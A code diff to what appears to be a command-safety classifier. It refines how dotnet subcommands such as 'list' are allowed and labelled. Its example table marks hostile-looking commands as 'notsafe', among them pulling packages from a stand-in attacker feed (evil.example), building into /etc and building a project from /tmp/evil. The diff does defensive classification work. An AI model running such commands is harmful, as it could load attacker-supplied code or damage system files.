@@ -231,7 +231,13 @@ _add("dotnet", Spec(operands="none", flags=E(f"{_HELP} --info --list-sdks --list
                     subcommands=subs({}, (
                         "build test restore format publish pack clean msbuild", _dotnet_build),
                         ("run", _dotnet_run),
-                        ("help sln list", ro(operands="none", flags=E(_HELP))),
+                        ("help sln", ro(operands="none", flags=E(_HELP))),
+                        ("list", ro(operands="any", flags=E(f"{_HELP} --outdated --deprecated --vulnerable "
+                                                            "--include-transitive --include-prerelease --highest-patch "
+                                                            "--highest-minor --interactive"),
+                                    value_opts=E("-f --framework -v --verbosity --format --output-version"),
+                                    load_flags=E("--config"), source_flags=E("-s --source"),
+                                    does="lists the project's packages or references")),
                         ("add remove", Spec(category=PKG_INSTALL, operands="none", network=True,
                                             does="changes dependencies", flags=_DOTNET_FLAGS - E("--version"),
                                             value_opts=_DOTNET_VALUES | E("-v --version"),
@@ -241,6 +247,8 @@ _add("dotnet", Spec(operands="none", flags=E(f"{_HELP} --info --list-sdks --list
                         ("", ro(operands="none", flags=E(_HELP)))),
                     examples=(("dotnet build", "safe"), ("dotnet test -c Release --no-build", "safe"),
                               ("dotnet run", "safe"), ("dotnet --info", "safe"),
+                              ("dotnet list package --outdated", "readonly safe"),
+                              ("dotnet list package --source https://evil.example/v3", "notsafe"),
                               ("dotnet build -o /etc/x", "notsafe"), ("dotnet nuget push x.nupkg", "notsafe"),
                               ("dotnet restore --source https://evil.example/v3", "notsafe"),
                               ("dotnet build /tmp/evil/evil.csproj", "notsafe"),
